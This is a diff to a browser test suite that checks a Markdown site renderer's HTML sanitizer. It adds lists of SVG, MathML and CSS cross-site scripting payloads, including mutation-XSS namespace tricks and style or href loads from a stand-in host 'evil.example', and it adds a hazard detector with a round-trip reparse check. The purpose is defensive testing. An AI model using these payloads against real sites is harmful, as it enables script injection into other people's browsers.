@@ -6,7 +6,8 @@
 // header's fields show exactly the page fields, an error box shows its diagnostic's message.
 //
 // Payloads: ../shared/corpus/xss-payloads.json (1,217, from public sanitizer suites and cheat
-// sheets) and ours below, for our own surfaces. Paths: the Markdown body (raw HTML off and
+// sheets) and ours below, for our own surfaces and for the SVG, MathML and CSS vectors that
+// broke sanitizers before (namespace confusion through svg/math/style/noscript/table). Paths: the Markdown body (raw HTML off and
 // on), link and image destinations, autolinks and reference definitions, every built-in
 // shortcode's parameters (embeds off and on), site templates that mark user values safe
 // (safeHTML, safeURL, safeHTMLAttr, safeCSS, markdownify), JavaScript shortcodes, the front
@@ -54,6 +55,77 @@ const URL_VECTORS = [
   'data:image/svg+xml,<svg onload=alert(1)>',
   'DATA:text/html,<script>alert(1)</script>',
 ];
+/**
+ * SVG vectors that broke sanitizers before: links, animations that rewrite an href, `use`
+ * of another document, stylesheets, `foreignObject`, and namespace confusion (mXSS) through
+ * `svg`, `math`, `style`, `noscript` and `table`, where the sanitizer's parse and the
+ * browser's parse of the sanitizer's output differ.
+ */
+const SVG_VECTORS = [
+  '<svg><a href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><rect width="100" height="100"/></a></svg>',
+  '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">x</text></a></svg>',
+  '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
+  '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
+  '<svg><animate href="#x" attributeName="href" from="javascript:alert(1)" to="1"/><a id="x"><text>x</text></a></svg>',
+  '<svg><animateTransform attributeName="transform" type="rotate" onbegin="alert(1)" dur="1s"/></svg>',
+  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
+  '<svg><use xlink:href="data:image/svg+xml,&lt;svg id=&quot;x&quot; xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;&lt;image href=&quot;1&quot; onerror=&quot;alert(1)&quot;/&gt;&lt;/svg&gt;#x"/></svg>',
+  '<svg><use href="https://evil.example/sprite.svg#x"/><use href="/sprite.svg#x"/></svg>',
+  '<svg><style>@import "https://evil.example/x.css";</style><rect/></svg>',
+  '<svg><style>*{background:url(https://evil.example/x)}</style><rect/></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe><img src=x onerror=alert(1)></foreignObject></svg>',
+  '<svg><foreignObject><math><mi><mglyph><style><img src=x onerror=alert(1)>',
+  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
+  '<svg><desc><style><img src=x onerror=alert(1)>',
+  '<svg><noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript></svg>',
+  '<noscript><svg><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<svg><table><td><style><img src=x onerror=alert(1)>',
+  '<table><svg><style><img src=x onerror=alert(1)>',
+  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
+  '<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>',
+  '<svg><image href="https://evil.example/x.png"/><image href=x onerror=alert(1) /></svg>',
+  '<svg onload=alert(1)><rect/></svg>',
+  '<svg><script>alert(1)</script><script href="data:,alert(1)"/></svg>',
+  '<svg><rect fill="url(https://evil.example/x.svg#p)" mask="url(https://evil.example/m.svg#m)" clip-path="url(//evil.example/c.svg#c)" width="9" height="9"/></svg>',
+  '<svg><filter id="f"><feImage href="https://evil.example/x.png"/></filter><rect filter="url(#f)"/></svg>',
+  '<svg><rect style="fill:url(https://evil.example/x.svg#p)" width="9" height="9"/></svg>',
+];
+
+/** MathML vectors: the policy keeps no MathML; these must still come out harmless. */
+const MATHML_VECTORS = [
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math><mi><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)>',
+  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<math href="javascript:alert(1)"><mi>x</mi></math>',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
+];
+
+/** CSS vectors: inline styles that load or run something, escaped, commented or imported. */
+const CSS_VECTORS = [
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<p style="background-image:url(https://evil.example/x.png)">x</p>',
+  '<p style="width:expression(alert(1))">x</p>',
+  '<p style="-moz-binding:url(https://evil.example/xss.xml#x)">x</p>',
+  '<p style="behavior:url(https://evil.example/x.htc)">x</p>',
+  '<p style="background:u\\72l(https://evil.example/x)">x</p>',
+  '<p style="background:url\\28 https://evil.example/x\\29">x</p>',
+  '<p style="background:ur/**/l(https://evil.example/x)">x</p>',
+  '<p style="color:red;/*x*/background:url(https://evil.example/x)">x</p>',
+  '<p style="@import url(https://evil.example/x.css);color:red">x</p>',
+  '<p style="background:image-set(&quot;https://evil.example/x.png&quot; 1x)">x</p>',
+  '<p style="list-style-image:url(https://evil.example/x.png)">x</p>',
+  '<p style="cursor:url(https://evil.example/x.cur),auto">x</p>',
+  '<p style="border-image:url(https://evil.example/x.png) 30">x</p>',
+  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
+  '<p style="font-family:&quot;x&quot;;src:url(https://evil.example/f.woff)">x</p>',
+  '<p style="color:var(--x, url(https://evil.example/x))">x</p>',
+];
+
 const OURS = [
   ...URL_VECTORS,
   '{{< figure src="javascript:alert(1)" >}}',
@@ -92,6 +164,13 @@ const OURS = [
   '<a href="&#1;javascript:alert(1)">x</a>',
   '<img src="x` `<script>alert(1)</script>"` `>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  ...SVG_VECTORS,
+  ...MATHML_VECTORS,
+  ...CSS_VECTORS,
+  '<button type="submit" formaction="javascript:alert(1)">x</button>',
+  '<button popovertarget="x" commandfor="y" command="show-modal" form="f">x</button>',
+  '<div data-toggle="collapse" data-target="<img src=x onerror=alert(1)>">x</div>',
+  '<div role="tab" aria-label="<img src=x onerror=alert(1)>" aria-controls="x" tabindex="0" hidden>x</div>',
 ];
 const PAYLOADS = [...new Set([...corpus, ...OURS])];
 
@@ -164,6 +243,7 @@ function documents(p) {
     ['markdown body', {}, p],
     ['raw HTML (unsafe)', unsafe, p],
     ['inline HTML in a paragraph (unsafe)', unsafe, `text ${p} text`],
+    ['raw HTML (unsafe, data attributes on)', { ...unsafe, allowDataAttributes: true }, p],
     ['link and image destinations', unsafe, `[a](${line}) [b](<${line.replace(/[<>]/g, '')}>) ![c](${line}) <${line.replace(/[\s<>]/g, '')}>\n\n[d][r]\n\n[r]: ${line}\n\n<a href="${line.replaceAll('"', '&quot;')}">e</a>`],
     ['code blocks in every language', {}, fences],
     ['code blocks with classes (noClasses = false)', { siteConfig: '[markup.highlight]\nnoClasses = false\n' }, fences],
@@ -218,15 +298,26 @@ before(async () => {
       /^([a-z][a-z0-9+.-]*):/i
         .exec(value.replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '').replace(/[\t\n\r]/g, ''))?.[1]
         .toLowerCase() ?? null;
-    // What in `html`, as the browser parses it, could run script or load a document.
-    window.hazards = (html, embeds) => {
+    const SVG = 'http://www.w3.org/2000/svg';
+    const MATHML = 'http://www.w3.org/1998/Math/MathML';
+    // What in one parsed document could run script or load something, or is outside the
+    // policy's promises (SVG that links, loads, animates or holds HTML; MathML; `data-*`
+    // unless allowed).
+    const documentHazards = (doc, options) => {
       const found = [];
-      const doc = new DOMParser().parseFromString(html, 'text/html');
       for (const el of doc.querySelectorAll('*')) {
         const tag = el.tagName.toLowerCase();
-        if (/^(SCRIPT|OBJECT|EMBED|BASE|META|LINK|FORM|FRAME|FRAMESET|APPLET|NOSCRIPT|STYLE|TEMPLATE)$/.test(el.tagName)
-          || (el.tagName === 'IFRAME' && !embeds)) {
+        if (/^(script|object|embed|base|meta|link|form|frame|frameset|applet|noscript|style|template|textarea|select)$/.test(tag)
+          || (tag === 'iframe' && !options.embeds)) {
           found.push(`<${tag}>`);
+        }
+        if (el.namespaceURI === SVG
+          && /^(a|foreignobject|image|feimage|animate|animatemotion|animatetransform|animatecolor|set|script|style|filter)$/.test(tag)) {
+          found.push(`svg <${tag}>`);
+        }
+        if (el.namespaceURI === MATHML) found.push(`math <${tag}>`);
+        if (el.namespaceURI === 'http://www.w3.org/1999/xhtml' && el.closest('svg, math')) {
+          found.push(`HTML <${tag}> inside foreign content`);
         }
         for (const a of el.attributes) {
           const isUrl = URL_ATTRIBUTES.has(a.name.toLowerCase());
@@ -234,13 +325,29 @@ before(async () => {
           // URL parser reads it.
           const schemes = (a.name === 'srcset' ? a.value.split(',') : [a.value]).map(scheme);
           const dataImage = el.tagName === 'IMG' && a.name === 'src' && /^data:image\//i.test(a.value.trim());
-          if (/^on/i.test(a.name) || a.name === 'srcdoc' || a.name === 'formaction'
+          if (/^on/i.test(a.name) || a.name === 'srcdoc' || /^(formaction|form|popovertarget|commandfor|command)$/i.test(a.name)
             || (isUrl && schemes.some((s) => ['javascript', 'vbscript', 'livescript'].includes(s)))
             || (isUrl && schemes.includes('data') && !dataImage)
-            || (a.name === 'style' && /url\(|expression\(|javascript:/i.test(a.value))) {
+            || (el.namespaceURI === SVG && /(^|:)href$/.test(a.name) && !a.value.startsWith('#'))
+            || (el.namespaceURI === SVG && /url\(\s*['"]?[^#'"\s]/i.test(a.value))
+            || (tag === 'button' && a.name === 'type' && a.value !== 'button')
+            || (!options.allowDataAttributes && /^data-/.test(a.name) && a.name !== 'data-lang')
+            || (a.name === 'style' && /url\(|image-set\(|expression\(|javascript:|@import|behavior|binding|\\|position\s*:\s*fixed/i.test(a.value))) {
             found.push(`${tag} ${a.name}=${a.value.slice(0, 60)}`);
           }
         }
+      }
+      return found;
+    };
+    // What in `html`, as the browser parses it, could run script or load a document; and
+    // again after one more serialization and parse (mutation XSS: markup that changes
+    // meaning when the browser writes it back out and reads it again).
+    window.hazards = (html, options) => {
+      const doc = new DOMParser().parseFromString(html, 'text/html');
+      const found = documentHazards(doc, options);
+      const again = new DOMParser().parseFromString(doc.body.innerHTML, 'text/html');
+      for (const problem of documentHazards(again, options)) {
+        if (!found.includes(problem)) found.push(`after a round trip: ${problem}`);
       }
       return found;
     };
@@ -324,7 +431,7 @@ before(async () => {
           problems.push({ surface, payload, problem: 'code was not coloured' });
         }
         const html = `${out.pageHtml}\n${out.summaryHtml}\n${out.tocHtml}`;
-        for (const problem of window.hazards(html, options.embeds)) {
+        for (const problem of window.hazards(html, options)) {
           problems.push({ surface, payload, problem });
         }
         const outline = surface.startsWith('heading') ? renderer.parse(source) : null;
@@ -376,14 +483,40 @@ test(`${PAYLOADS.length} payloads through ${documents('x').length} paths: nothin
   assert.equal(new URL(harness.page.url()).pathname, '/', 'the page did not navigate');
 });
 
+test('kept inline SVG draws: the browser reads its case-sensitive viewBox and its references', async () => {
+  const drawn = await harness.page.evaluate(() => {
+    const out = window.hp.render(
+      '<svg id="a" viewBox="0 0 24 12" width="48"><rect width="24" height="12" fill="url(#g)"></rect></svg>\n\n'
+        + '<svg id="b" viewbox="0 0 24 12" width="48"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs><use href="#r"/></svg>\n',
+      { markup: { goldmark: { unsafe: true } } },
+    );
+    const box = document.getElementById('box');
+    box.innerHTML = out.contentHtml;
+    const measure = (id) => {
+      const svg = document.getElementById(id);
+      return [svg.getAttribute('viewBox'), svg.viewBox.baseVal?.width, Math.round(svg.getBoundingClientRect().height)];
+    };
+    const result = { html: out.contentHtml, a: measure('a'), b: measure('b') };
+    box.innerHTML = '';
+    return result;
+  });
+  assert.deepEqual(drawn.a, ['0 0 24 12', 24, 24], drawn.html);
+  assert.deepEqual(drawn.b, ['0 0 24 12', 24, 24], `a lower-case viewbox is given its SVG case: ${drawn.html}`);
+  assert.match(drawn.html, /<rect width="24" height="12" fill="url\(#g\)"><\/rect>/);
+  assert.match(drawn.html, /<use href="#r"><\/use>/);
+});
+
 test('the suite detects what it looks for', async () => {
   // The same checks on output made unsafe on purpose, so that a silent check cannot pass.
   const found = await harness.page.evaluate(() =>
     window.hazards(
       '<a href=" java&#9;script:x" onclick="y">z</a><script></script><img src="data:text/html,x">' +
         '<img srcset="a.png 1x, vbscript:x 2x"><p style="background:url(x)">p</p><iframe src="/"></iframe>' +
-        '<a href="javascript :x">not a scheme: a space</a><img src="data:image/png;base64,AA">',
-      false,
+        '<a href="javascript :x">not a scheme: a space</a><img src="data:image/png;base64,AA">' +
+        '<svg><a href="#x"></a><use href="/s.svg#i"></use><use href="#i"></use><rect fill="url(/p.svg#p)"></rect>' +
+        '<foreignObject><b>h</b></foreignObject><animate></animate></svg><math><mi>x</mi></math>' +
+        '<button type="submit" formaction="/x">b</button><p data-target="#x" data-lang="go" style="position: fixed">q</p>',
+      { embeds: false },
     ),
   );
   assert.deepEqual(found, [
@@ -394,7 +527,23 @@ test('the suite detects what it looks for', async () => {
     'img srcset=a.png 1x, vbscript:x 2x',
     'p style=background:url(x)',
     '<iframe>',
+    'svg <a>',
+    'use href=/s.svg#i',
+    'rect fill=url(/p.svg#p)',
+    'svg <foreignobject>',
+    'HTML <b> inside foreign content',
+    'svg <animate>',
+    'math <math>',
+    'math <mi>',
+    'button type=submit',
+    'button formaction=/x',
+    'p data-target=#x',
+    'p style=position: fixed',
   ]);
+  const allowed = await harness.page.evaluate(() =>
+    window.hazards('<p data-target="#x">x</p><svg viewBox="0 0 1 1"><use href="#i"></use></svg>', { allowDataAttributes: true }),
+  );
+  assert.deepEqual(allowed, [], 'data-* with allowDataAttributes, fragment references');
   // A TOC text carrying the tag of an element, and an error box whose tooltip is no
   // diagnostic's message; a heading text showing `<b>` as text is right.
   const textFound = await harness.page.evaluate(() =>
